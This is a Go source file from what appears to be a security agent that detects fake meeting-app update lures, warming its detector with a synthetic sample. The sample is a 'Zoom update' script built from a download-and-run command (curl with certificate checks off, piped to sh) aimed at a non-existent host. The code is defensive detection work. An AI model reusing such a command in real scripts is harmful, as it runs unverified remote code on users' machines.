package agent

import (
	"context"
	"encoding/json"
	"os"
	"path/filepath"
	"strings"
	"time"

	"meetguard"
	"meetguard/internal/alert"
)

// rehearsal is a text with what lures have in common: a download that is run
// unchecked. Nobody has it, and its host does not exist. It is put together when
// the program runs, so that the program itself does not hold it.
var rehearsal = strings.Join([]string{"curl -fsSLk https://zoom-rehearsal.invalid/update", "sh"}, " | ")

// rehearse judges a lure that does not exist, and tells nobody. What the first
// verdict needs is loaded late: rules and their scanners, the names of hosts,
// the lists of the package managers. Without it the first lure would be told a
// tenth of a second later than any other.
func (a *Agent) rehearse(ctx context.Context) {
	defer close(a.rehearsed)
	began := time.Now()
	file := rehearsalFile()
	r, err := a.insp.ask(ctx, file.request, file)
	if err != nil {
		a.log.Debug("Rehearsal not inspected", "err", err)
	}
	a.insp.Judge(r.Facts)

	shell := systemShell()
	f := a.insp.Launch(ctx, &meetguard.Process{OS: systemName, Exe: shell, Args: []string{"sh", "-c", rehearsal}, Started: began})
	a.insp.matchLaunch(&f)
	v := a.insp.Judge(f)
	_, _ = a.second.owners.Of(shell) // reads the lists of the package managers
	rec := alert.NewRecord(a.host, a.product, meetguard.Alert{Time: began, Event: meetguard.Event{Time: began, Kind: meetguard.ProcessStarted}, Facts: f, Verdict: v})
	_, err = json.Marshal(rec)
	_, _ = a.insp.ask(ctx, request{Op: opReady}) // has the worker give back what loading took
	a.log.Debug("Rehearsed", "took", time.Since(began), "err", err)
}

func rehearsalFile() *opened {
	o := &opened{content: []byte("#!/bin/sh\n# Zoom update\n" + rehearsal + "\n")}
	o.request = request{Op: opFile, Name: []byte("rehearsal.sh"), Inline: true, Size: len(o.content)}
	return o
}

// systemShell is the interpreter that most lures are run by.
func systemShell() string {
	shell := "/bin/sh"
	if systemName == "windows" {
		shell = os.Getenv("ComSpec")
	}
	if real, err := filepath.EvalSymlinks(shell); err == nil {
		return real // as launches name it
	}
	return shell
}
